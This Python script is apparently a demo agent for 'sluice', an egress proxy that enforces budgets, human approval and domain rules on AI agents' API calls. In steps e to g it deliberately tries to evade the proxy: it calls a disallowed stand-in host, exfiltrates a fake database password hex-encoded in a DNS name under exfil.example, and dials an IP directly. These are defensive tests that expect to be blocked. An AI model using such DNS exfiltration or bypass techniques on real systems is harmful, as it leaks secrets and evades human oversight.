"""The demo's agent: an ordinary LLM client that knows nothing about sluice.

It sets no proxy, speaks straight to https://api.openai.com with urllib, http.client and raw
sockets, and trusts whatever CA bundle its environment names (`sluice run` points SSL_CERT_FILE at
sluice's CA). Everything it does is printed as it happens; the last line is `RESULT {json}` for
`cargo xtask demo` to check.

usage: python3 -u demo_agent.py MOCK_IP
"""

import json
import socket
import sys
import time
import urllib.error
import urllib.request

API = "https://api.openai.com/v1/chat/completions"
MOCK_IP = sys.argv[1]
MODEL = "gpt-6-astra"  # $10 / $50 per million input / output tokens in policies/openai.toml
results = {}


def say(step, text):
    print(f"[{step}] {text}", flush=True)


def chat(max_tokens, prompt, stream=False):
    body = {"model": MODEL, "messages": [{"role": "user", "content": prompt}], "max_tokens": max_tokens}
    if stream:
        body["stream"] = True
        body["stream_options"] = {"include_usage": True}
    req = urllib.request.Request(
        API,
        data=json.dumps(body).encode(),
        headers={"Content-Type": "application/json", "Authorization": "Bearer sk-demo-not-a-real-key"},
    )
    return urllib.request.urlopen(req, timeout=90)


def refusal(e):
    """A sluice 403: the Sluice-Decision header and the decision JSON an LLM can read."""
    raw = e.read()
    try:
        j = json.loads(raw)
    except ValueError:
        j = {"detail": raw[:200].decode(errors="replace")}
    header = e.headers.get("Sluice-Decision")
    return j.get("reason", "?"), f"{e.code} {e.reason}; Sluice-Decision: {header}\n      detail: {j.get('detail')}"


def usage_text(u):
    return f"usage: prompt {u['prompt_tokens']} + completion {u['completion_tokens']} tokens"


def json_call(step, max_tokens, prompt):
    """One non-streamed call; returns (status, reason)."""
    try:
        with chat(max_tokens, prompt) as r:
            j = json.load(r)
            words = j["choices"][0]["message"]["content"].split()
            say(step, f"{r.status} {r.reason}: {len(words)}-word reply \"{' '.join(words[:6])} ...\"; {usage_text(j['usage'])}")
            return r.status, "ok"
    except urllib.error.HTTPError as e:
        reason, text = refusal(e)
        say(step, text)
        return e.code, reason


say("a", f"allowed chat call, JSON, model {MODEL}, max_tokens 1200 (sluice checks the estimate, settles the real usage)")
results["a"] = json_call("a", 1200, "Explain in one paragraph what sluice does.")[0]

say("b", "allowed chat call, streamed (SSE with stream_options.include_usage), max_tokens 300")
try:
    start = time.monotonic()
    events = 0
    with chat(300, "Stream me a short answer.", stream=True) as r:
        say("b", f"{r.status} {r.reason}, content-type {r.headers.get('Content-Type')}")
        for line in r:
            line = line.decode().strip()
            if not line.startswith("data: "):
                continue
            events += 1
            data = line[6:]
            at = f"+{time.monotonic() - start:.2f}s"
            if data == "[DONE]":
                say("b", f"  {at} data: [DONE]")
                continue
            chunk = json.loads(data)
            if chunk.get("usage"):
                say("b", f"  {at} usage chunk: {usage_text(chunk['usage'])}")
            elif chunk["choices"] and chunk["choices"][0]["delta"].get("content"):
                words = chunk["choices"][0]["delta"]["content"].split()
                say("b", f"  {at} {len(words)} words: \"{' '.join(words[:5])} ...\"")
    results["b"] = r.status if events else "no events"
except urllib.error.HTTPError as e:
    results["b"] = e.code
    say("b", refusal(e)[1])

say("c", "over the approval threshold: max_tokens 7900 (estimate ~$0.40 > $0.30); the call waits for a human")
start = time.monotonic()
status, _ = json_call("c", 7900, "Write the long report.")
say("c", f"answered after {time.monotonic() - start:.1f}s of waiting")
results["c"] = status

say("d", "calls with max_tokens 5700 (estimate ~$0.29 each) until the $0.50 daily budget would be exceeded")
results["d"] = []
for n in range(1, 9):
    status, reason = json_call(f"d{n}", 5700, f"Task {n}: draft the next section.")
    results["d"].append([status, reason])
    if status != 200:
        break

say("e", "a domain the passport does not allow: https://api.evil-llm.example")
try:
    urllib.request.urlopen("https://api.evil-llm.example/v1/chat/completions", data=b"{}", timeout=20)
    results["e"] = "reached"
    say("e", "REACHED (this is a bug)")
except urllib.error.URLError as e:
    results["e"] = "dns" if isinstance(e.reason, socket.gaierror) else f"error {e.reason}"
    say("e", f"no address, so no connection: {e.reason}")

secret = "db-password=hunter2"
name = secret.encode().hex() + ".exfil.example"
say("f", f"DNS exfiltration: the secret {secret!r} hex-encoded in a name: {name}")
try:
    addr = socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]
    results["f"] = "resolved"
    say("f", f"RESOLVED to {addr} (this is a bug)")
except socket.gaierror as e:
    results["f"] = "dns"
    say("f", f"{e} (answered by sluice's resolver; step 9 shows the query never left the host)")

say("g", f"a direct dial to the API server's own address {MOCK_IP}:443, skipping DNS")
try:
    body = json.dumps({"model": MODEL, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 10}).encode()
    s = socket.create_connection((MOCK_IP, 443), timeout=20)
    s.sendall(
        f"POST /v1/chat/completions HTTP/1.1\r\nHost: {MOCK_IP}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
    )
    data = b""
    while chunk := s.recv(65536):
        data += chunk
    s.close()
    head, _, rest = data.decode(errors="replace").partition("\r\n\r\n")
    lines = head.split("\r\n")
    if not lines[0]:
        results["g"] = "closed"
        say("g", "connection closed without an answer")
    else:
        decision = next((l.split(":", 1)[1].strip() for l in lines if l.lower().startswith("sluice-decision:")), None)
        try:
            detail = json.loads(rest).get("detail")
        except ValueError:
            detail = rest[:200]
        results["g"] = int(lines[0].split()[1])
        say("g", f"{lines[0]}; Sluice-Decision: {decision}\n      detail: {detail}")
except OSError as e:
    results["g"] = "refused"
    say("g", f"connection failed: {e}")

print("RESULT " + json.dumps(results), flush=True)
